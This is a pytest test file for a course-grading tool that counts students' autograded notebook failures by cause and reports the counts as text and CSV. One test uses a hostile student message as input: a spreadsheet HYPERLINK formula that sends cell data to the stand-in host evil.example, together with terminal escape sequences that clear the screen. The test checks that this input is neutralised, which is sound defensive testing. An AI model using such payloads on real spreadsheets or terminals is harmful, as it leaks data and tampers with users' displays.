"""Tests of collective_lib.autograde.misconceptions: an assignment's failures by cause.

The course of conftest.py gets more students for ps1 and their autograded notebooks,
written as TrustedVerdict writes them (a failed graded cell: an error output and the
kind in its metadata); the report must count the causes per graded cell, give their
shares and one real message each, and say clearly what is wrong with its arguments.
(The round trip through nbgrader autograde is in tests/exercises/test_scatter_any_root.py.)
"""
import csv
import io

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook

from collective_lib.autograde.misconceptions import (failures_by_cause, failures_csv,
                                                     failures_text, main)
from collective_lib.autograde.verdict import FAILURE_METADATA

# nbgrader warns when submissions are added to a gradebook that was read before
pytestmark = pytest.mark.filterwarnings("ignore:Object of type:Warning")

# student: (kind or None for a passed cell, message); "unrecorded": an error without a kind
CLASS = {
    "ann": (None, ""),
    "ben": ("wrong_result", "wrong result of f for p=3: PE 1 returned 4, but 5 was expected."),
    "cat": ("wrong_result", "wrong result of f for p=7: PE 2 returned None, but 1 was expected."),
    "dan": ("deadlock", "deadlock in f for p=2: at simulated time 1 no PE can go on\n  PE 0 "
                        "waits in recv(1)\n  PE 1 waits in recv(0)"),
    "eve": ("unrecorded", "an error graded before kinds were recorded"),
}


def _autograded(kind, message):
    meta = {"nbgrader": {"grade": True, "solution": False, "points": 3,
                         "grade_id": "alpha_tests", "locked": True}}
    cell = new_code_cell("check(f)", metadata=meta)
    if kind is None:
        cell.outputs = [new_output("stream", name="stdout", text="All checks passed.\n")]
    else:
        cell.outputs = [new_output("error", ename="AssertionError", evalue=message,
                                   traceback=["AssertionError: " + message])]
        if kind != "unrecorded":
            cell.metadata[FAILURE_METADATA] = {"failure": kind}
    written = new_markdown_cell("my answer", metadata={"nbgrader": {
        "grade": True, "solution": True, "points": 2, "grade_id": "written", "locked": False}})
    return new_notebook(cells=[written, cell])


@pytest.fixture
def graded_class(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in ("dan", "eve", "fay"):
            gb.add_student(student)
        for student in ("cat", "dan", "eve", "fay"):    # fay's notebook was never autograded
            gb.add_submission("ps1", student)
    for student, (kind, message) in CLASS.items():
        folder = course / "autograded" / student / "ps1"
        folder.mkdir(parents=True)
        nbformat.write(_autograded(kind, message), folder / "ps1.ipynb")
    return course


def test_failures_are_counted_by_cause_with_shares_and_one_real_example(graded_class):
    [cell] = failures_by_cause("ps1", graded_class)
    assert (cell.notebook, cell.grade_id, cell.points) == ("ps1", "alpha_tests", 3)
    assert (cell.submissions, cell.failed) == (5, 4)
    assert [(c.kind, c.count, c.share) for c in cell.causes] == [
        ("wrong_result", 2, 0.4), ("deadlock", 1, 0.2), ("unrecorded", 1, 0.2)]
    first = cell.causes[0]
    assert (first.example_student, first.example) == ("ben", CLASS["ben"][1])
    assert cell.causes[1].example == CLASS["dan"][1]


def test_the_text_and_the_csv_say_the_same(graded_class, capsys):
    out = graded_class / "failures.csv"
    assert main(["ps1", "--course", str(graded_class), "--out", str(out)]) == 0
    text = capsys.readouterr().out
    assert "ps1:alpha_tests (3 points): failed in 4 of 5 submissions (80%)" in text
    assert " 40%    2  wrong_result: a PE (or the student's function) returned a wrong value" \
        in text
    assert "e.g. (ben) wrong result of f for p=3: PE 1 returned 4" in text
    assert "PE 1 waits in recv(0)" in text                  # every line of a short example
    assert text.index("wrong_result") < text.index("deadlock") < text.index("unrecorded")
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [(r["kind"], r["count"], r["share"], r["example_student"]) for r in rows] == [
        ("wrong_result", "2", "0.4", "ben"), ("deadlock", "1", "0.2", "dan"),
        ("unrecorded", "1", "0.2", "eve")]
    assert rows[0]["submissions"] == "5" and rows[0]["failed"] == "4"
    assert failures_csv("ps1", failures_by_cause("ps1", graded_class)) == out.read_text()


def test_a_students_message_is_text_in_the_spreadsheet_and_the_terminal(course):
    # the example of a cause is what the student's code raised: in the CSV no formula, in
    # the text no escape sequence that erases the instructor's screen
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        gb.add_student("mal")
        gb.add_submission("ps1", "mal")
    folder = course / "autograded" / "mal" / "ps1"
    folder.mkdir(parents=True)
    hostile = '=HYPERLINK("http://evil.example/?"&A1)\x1b[2J\x1b]0;owned\x07'
    nbformat.write(_autograded("wrong_result", hostile), folder / "ps1.ipynb")
    cells = failures_by_cause("ps1", course)
    [row] = list(csv.DictReader(io.StringIO(failures_csv("ps1", cells))))
    assert row["example"] == "'" + hostile.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
    assert not any(c in failures_text("ps1", cells) for c in "\x1b\x07")


def test_a_cell_nobody_failed_has_no_causes(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        gb.add_submission("ps2", "ben")
    for student in ("ann", "ben"):
        folder = course / "autograded" / student / "ps2"
        folder.mkdir(parents=True)
        cell = new_code_cell("pass", metadata={"nbgrader": {
            "grade": True, "solution": False, "points": 4, "grade_id": "only_tests",
            "locked": True}})
        nbformat.write(new_notebook(cells=[cell]), folder / "ps2.ipynb")
    [cell] = failures_by_cause("ps2", course)
    assert (cell.submissions, cell.failed, cell.causes) == (2, 0, [])


@pytest.mark.parametrize("args, text", [
    (["ps9"], "has no assignment 'ps9' (it has: ps1, ps2)"),
    (["ps1", "--course", "/no/such/course"], "the course directory '/no/such/course' does "
                                             "not exist"),
])
def test_bad_arguments_are_named(course, args, text, capsys):
    if "--course" not in args:
        args = args + ["--course", str(course)]
    assert main(args) == 2
    assert text in capsys.readouterr().err


def test_a_folder_without_gradebook_is_not_a_course(tmp_path, capsys):
    assert main(["ps1", "--course", str(tmp_path)]) == 2
    assert "holds no gradebook.db" in capsys.readouterr().err
